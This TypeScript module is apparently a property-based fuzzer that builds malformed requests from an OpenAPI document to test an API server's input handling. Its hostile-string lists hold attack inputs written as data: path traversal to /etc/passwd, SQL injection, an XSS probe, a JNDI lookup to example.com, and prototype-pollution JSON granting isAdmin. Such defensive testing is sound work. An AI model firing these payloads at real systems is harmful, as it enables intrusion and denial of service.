import fc from 'fast-check';

/** The part of an OpenAPI 3 schema object the generators read. */
export interface JsonSchema {
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  items?: JsonSchema;
  enum?: unknown[];
  const?: unknown;
  format?: string;
  pattern?: string;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  nullable?: boolean;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  allOf?: JsonSchema[];
}

/** One operation of the API document, as the fuzzer needs it. */
export interface Operation {
  method: string;
  /** OpenAPI path, `{id}` for parameters. */
  path: string;
  pathParams: { name: string; schema: JsonSchema }[];
  queryParams: { name: string; schema: JsonSchema; required: boolean }[];
  /** The JSON body's schema, when the operation takes one. */
  body?: JsonSchema;
  multipart: boolean;
  /** It answers a stream (Server-Sent Events) that stays open: read its status and headers, then leave. */
  stream: boolean;
}

export interface MalformedRequest {
  /** Path and query, already encoded. */
  url: string;
  headers: Record<string, string>;
  body?: string | Uint8Array;
  /** What kind of malformation this is, for the failure report. */
  kind: string;
}

type Document = {
  paths: Record<
    string,
    Record<
      string,
      {
        parameters?: { in: string; name: string; schema: JsonSchema; required?: boolean }[];
        requestBody?: { content: Record<string, { schema: JsonSchema }> };
        responses?: Record<string, { content?: Record<string, unknown> }>;
      }
    >
  >;
};

/** Every operation of the API document. */
export function operationsOf(document: Document): Operation[] {
  return Object.entries(document.paths).flatMap(([path, methods]) =>
    Object.entries(methods).map(([method, op]) => ({
      method: method.toUpperCase(),
      path,
      pathParams: (op.parameters ?? []).filter((p) => p.in === 'path').map((p) => ({ name: p.name, schema: p.schema })),
      queryParams: (op.parameters ?? [])
        .filter((p) => p.in === 'query')
        .map((p) => ({ name: p.name, schema: p.schema, required: p.required ?? false })),
      body: op.requestBody?.content['application/json']?.schema,
      multipart: op.requestBody?.content['multipart/form-data'] !== undefined,
      stream: op.responses?.['200']?.content?.['text/event-stream'] !== undefined,
    })),
  );
}

const deep = (depth: number, leaf: unknown, asArray: boolean): unknown => {
  let value = leaf;
  for (let i = 0; i < depth; i++) value = asArray ? [value] : { a: value };
  return value;
};

/** Strings that have broken servers: traversal, NUL, injection, odd unicode, numbers as text, huge ones. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '',
    ' ',
    '../',
    '../../../../etc/passwd',
    '..%2F..%2Fetc%2Fpasswd',
    '%00',
    '\u0000',
    'a\u0000b',
    "' OR '1'='1' --",
    '"; DROP TABLE users; --',
    '<script>alert(1)</script>',
    `\${jndi:ldap://example.com/a}`,
    '{{7*7}}',
    '\uFFFF',
    '\uD800',
    '\u202Eevil',
    '😀😀😀',
    'null',
    'undefined',
    'NaN',
    '-1',
    '1e309',
    'true',
    '[]',
    '{}',
    '__proto__',
    'constructor',
    '00000000-0000-0000-0000-000000000000',
    'ffffffff-ffff-ffff-ffff-ffffffffffff',
  ),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.uuid().map((id) => `${id}x`),
  fc.uuid().map((id) => id.toUpperCase()),
  fc.uuid().map((id) => `${id}\u0000`),
  fc.integer({ min: 300, max: 20_000 }).map((n) => 'a'.repeat(n)),
  fc.integer({ min: 10, max: 2_000 }).map((n) => '\u00e9\u0000'.repeat(n)),
);

/** Any JSON value of the wrong shape, deep nesting included. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: hostileString },
  fc.integer(),
  fc.double(),
  fc.constantFrom(true, false, null, 0, -1, Number.MAX_SAFE_INTEGER, 1e308, -0),
  fc.array(hostileString, { maxLength: 5 }),
  fc.dictionary(hostileString, hostileString, { maxKeys: 4 }),
  fc.tuple(fc.integer({ min: 50, max: 1_000 }), fc.boolean()).map(([depth, asArray]) => deep(depth, 1, asArray)),
  fc.jsonValue({ maxDepth: 4 }),
);

function typesOf(schema: JsonSchema): string[] {
  if (schema.type) return Array.isArray(schema.type) ? schema.type : [schema.type];
  if (schema.properties) return ['object'];
  return [];
}

function patternString(schema: JsonSchema): fc.Arbitrary<string> | undefined {
  if (!schema.pattern) return undefined;
  try {
    const max = schema.maxLength ?? 200;
    return fc.stringMatching(new RegExp(schema.pattern)).filter((s) => s.length <= max);
  } catch {
    return undefined;
  }
}

/** A value the schema accepts, or nearly: what a real client sends, to be mutated. */
export function nearlyValid(schema: JsonSchema, depth = 0): fc.Arbitrary<unknown> {
  const choices = schema.anyOf ?? schema.oneOf;
  if (choices?.length) return fc.oneof(...choices.map((c) => nearlyValid(c, depth + 1)));
  if (schema.allOf?.length) return nearlyValid(Object.assign({}, ...schema.allOf), depth + 1);
  if (schema.enum?.length) return fc.constantFrom(...schema.enum);
  if (schema.const !== undefined) return fc.constant(schema.const);
  const [type] = typesOf(schema);
  switch (type) {
    case 'string': {
      if (schema.format === 'uuid') return fc.uuid();
      if (schema.format === 'email') return fc.emailAddress();
      if (schema.format === 'date') return fc.constantFrom('2030-01-01', '2020-02-30', 'tomorrow');
      const matching = patternString(schema);
      if (matching) return matching;
      const minLength = schema.minLength ?? 0;
      return fc.string({ minLength, maxLength: Math.max(minLength, Math.min(schema.maxLength ?? 30, 30)) });
    }
    case 'integer':
      return fc.integer({ min: schema.minimum ?? -5, max: schema.maximum ?? 100 });
    case 'number':
      return fc.double({ min: schema.minimum ?? -5, max: schema.maximum ?? 1000, noNaN: true });
    case 'boolean':
      return fc.boolean();
    case 'array':
      return depth > 3 ? fc.constant([]) : fc.array(nearlyValid(schema.items ?? {}, depth + 1), { maxLength: 3 });
    case 'object': {
      if (depth > 3) return fc.constant({});
      const properties = Object.entries(schema.properties ?? {});
      return fc.record(Object.fromEntries(properties.map(([key, value]) => [key, nearlyValid(value, depth + 1)])));
    }
    default:
      return hostileValue;
  }
}

/** A value of the schema's shape with one thing wrong: a field missing, of the wrong type, hostile, NUL inside. */
function mutatedValue(schema: JsonSchema): fc.Arbitrary<unknown> {
  const properties = Object.entries(schema.properties ?? {});
  if (properties.length === 0) return fc.oneof(nearlyValid(schema), hostileValue);
  const field = fc.constantFrom(...properties.map(([key]) => key));
  const hostileField = (value: unknown): fc.Arbitrary<unknown> =>
    fc.oneof(
      hostileValue,
      fc.constant(undefined),
      // Valid text with a NUL or an unpaired surrogate inside: passes length and type checks.
      fc.constant(typeof value === 'string' ? `${value}\u0000` : value),
      fc.constant(typeof value === 'string' ? `\u0000${value}` : value),
      fc.constant(typeof value === 'string' ? `${value}\uD800` : value),
      fc.constant(typeof value === 'string' ? value.repeat(400) : value),
    );
  return nearlyValid(schema).chain((valid) => {
    if (typeof valid !== 'object' || valid === null) return fc.constant(valid);
    const base = valid as Record<string, unknown>;
    return fc.oneof(
      // One field changed.
      fc
        .tuple(field, field)
        .chain(([key]) =>
          hostileField(base[key]).map((value) => (value === undefined ? omit(base, key) : { ...base, [key]: value })),
        ),
      // Several fields changed.
      fc
        .array(
          field.chain((key) => hostileField(base[key]).map((value) => [key, value] as const)),
          { minLength: 2, maxLength: 4 },
        )
        .map((changes) => Object.assign({ ...base }, Object.fromEntries(changes))),
      // Extra fields, prototype keys among them.
      fc
        .dictionary(
          fc.oneof(
            fc.constantFrom('__proto__', 'constructor', 'prototype', 'isAdmin', 'userId', 'role'),
            hostileString,
          ),
          hostileValue,
          {
            minKeys: 1,
            maxKeys: 3,
          },
        )
        .map((extra) => ({ ...base, ...extra })),
      // Valid as sent: answered 2xx (or a rule beyond the schema says no).
      fc.constant(base),
    );
  });
}

function omit(value: Record<string, unknown>, key: string) {
  const { [key]: _dropped, ...rest } = value;
  return rest;
}

const invalidJson = fc.oneof(
  fc.constantFrom(
    '{',
    '{"a":',
    '[1,2',
    'nul',
    '{"a":1}}',
    "{'a':1}",
    '{"a":01}',
    '\u0000',
    '{"__proto__":{"isAdmin":true}}',
    '{"constructor":{"prototype":{"isAdmin":true}}}',
    `${'['.repeat(100_000)}`,
    '\uFEFF{}',
    '{"a":"\\ud800"}',
    '{"a":"\\u0000"}',
  ),
  fc.string({ unit: 'binary', maxLength: 60 }),
);

const wrongContentTypes = fc.constantFrom(
  'text/plain',
  'application/xml',
  'application/x-www-form-urlencoded',
  'multipart/form-data',
  'multipart/form-data; boundary=----nothing',
  'application/json; charset=utf-16',
  'application/octet-stream',
  'application/json, text/plain',
  '*/*',
  'application/vnd.api+json',
);

/** A JSON body: well-formed text of a malformed value, or text that is not JSON at all. */
function malformedBody(
  operation: Operation,
): fc.Arbitrary<{ body?: string | Uint8Array; type?: string; kind: string }> {
  const schema = operation.body ?? { type: 'object' };
  const asJson = (kind: string) => (value: unknown) => ({
    body: JSON.stringify(value) ?? 'null',
    type: 'application/json',
    kind,
  });
  type Sent = { body?: string | Uint8Array; type?: string; kind: string };
  const options: fc.WeightedArbitrary<Sent>[] = [
    { weight: 80, arbitrary: mutatedValue(schema).map(asJson('mutated fields')) },
    { weight: 30, arbitrary: hostileValue.map(asJson('wrong type')) },
    { weight: 30, arbitrary: invalidJson.map((body) => ({ body, type: 'application/json', kind: 'invalid JSON' })) },
    {
      weight: 30,
      arbitrary: fc
        .tuple(
          wrongContentTypes,
          fc.oneof(
            mutatedValue(schema).map((v) => JSON.stringify(v) ?? ''),
            invalidJson,
          ),
        )
        .map(([type, body]) => ({ body, type, kind: `content type ${type}` })),
    },
    { weight: 10, arbitrary: fc.constant({ body: '', type: 'application/json', kind: 'empty JSON body' }) },
    // Nesting deeper than any parser's recursion (written as text: it cannot be a value here either).
    {
      weight: 10,
      arbitrary: fc.tuple(fc.integer({ min: 1_000, max: 200_000 }), fc.boolean()).map(([depth, asArray]) => ({
        body: asArray ? `${'['.repeat(depth)}1${']'.repeat(depth)}` : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`,
        type: 'application/json',
        kind: `nested ${depth} deep`,
      })),
    },
    { weight: 10, arbitrary: fc.constant({ kind: 'no body' }) },
    {
      weight: 10,
      arbitrary: fc
        .uint8Array({ maxLength: 200 })
        .map((bytes) => ({ body: bytes, type: 'application/json', kind: 'random bytes as JSON' })),
    },
    // Just over the 1 MB limit (rare: each is a megabyte on the wire).
    {
      weight: 2,
      arbitrary: fc.constant({
        body: JSON.stringify({ a: 'x'.repeat(1_048_600) }),
        type: 'application/json',
        kind: 'too large',
      }),
    },
  ];
  if (operation.multipart) {
    options.push({
      weight: 30,
      arbitrary: fc.tuple(hostileString, fc.uint8Array({ maxLength: 300 })).map(([name, bytes]) => ({
        body: multipartBody(name, bytes),
        type: 'multipart/form-data; boundary=fuzzboundary',
        kind: 'multipart with garbage',
      })),
    });
  }
  return fc.oneof(...options);
}

function multipartBody(name: string, bytes: Uint8Array): Uint8Array {
  const head =
    '--fuzzboundary\r\nContent-Disposition: form-data; name="business_name"\r\n\r\n' +
    `${name}\r\n--fuzzboundary\r\nContent-Disposition: form-data; name="avatar"; filename="x.png"\r\n` +
    'Content-Type: image/png\r\n\r\n';
  const tail = '\r\n--fuzzboundary--\r\n';
  return Buffer.concat([Buffer.from(head), Buffer.from(bytes), Buffer.from(tail)]);
}

/** Percent-encodes the UTF-8 bytes of any text, lone surrogates too (encodeURIComponent throws on those). */
const encode = (text: string) =>
  [...Buffer.from(text, 'utf8')]
    .map((byte) =>
      /[A-Za-z0-9_.~-]/.test(String.fromCharCode(byte))
        ? String.fromCharCode(byte)
        : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`,
    )
    .join('');

/** A path parameter: hostile text, encoded the way a client would (or not encoded at all). */
const pathParam = (schema: JsonSchema) =>
  fc.oneof(
    hostileString.map((text) => encode(text).slice(0, 6_000)),
    fc.constantFrom('..', '%2e%2e', '..%2f..%2f', '%00', '%', '%zz', '%u0000', 'a%2Fb', '%C0%AE', '.', '~'),
    fc.integer({ min: 200, max: 6_000 }).map((n) => '1'.repeat(n)),
    nearlyValid(schema).map((v) => encode(String(v))),
  );

const queryValue = (schema: JsonSchema) =>
  fc.oneof(
    hostileString,
    nearlyValid(schema).map((v) => String(v)),
    fc.constant(''),
  );

/** Requests for one operation, each malformed somewhere: path, query, body or content type. */
export function malformedRequests(operation: Operation): fc.Arbitrary<MalformedRequest> {
  const params = fc.record(Object.fromEntries(operation.pathParams.map((p) => [p.name, pathParam(p.schema)])));
  const query = fc.tuple(
    fc.record(Object.fromEntries(operation.queryParams.map((p) => [p.name, queryValue(p.schema)])), {
      requiredKeys: [],
    }),
    fc.dictionary(hostileString, hostileString, { maxKeys: 2 }),
    fc.boolean(),
  );
  const sendsBody = operation.method !== 'GET' && operation.method !== 'HEAD';
  const body = sendsBody
    ? malformedBody(operation)
    : fc.constant({ kind: 'no body' } as { body?: string; type?: string; kind: string });
  return fc.tuple(params, query, body).map(([values, [declared, extra, repeat], sent]) => {
    const path = operation.path.replace(/\{(\w+)\}/g, (_, name: string) => values[name] ?? 'x');
    const search = new URLSearchParams();
    for (const [key, value] of Object.entries({ ...extra, ...declared })) {
      if (value === undefined) continue;
      search.append(key, value);
      if (repeat) search.append(key, value);
    }
    // Within a server's 16 KB of request head (beyond it Node answers 431 and closes the connection).
    const queryText = search.toString().slice(0, 4_000);
    const headers: Record<string, string> = {};
    if (sent.type) headers['content-type'] = sent.type;
    return {
      url: queryText ? `${path}?${queryText}` : path,
      headers,
      body: sent.body,
      kind: operation.pathParams.length ? `${sent.kind}, hostile path` : sent.kind,
    };
  });
}
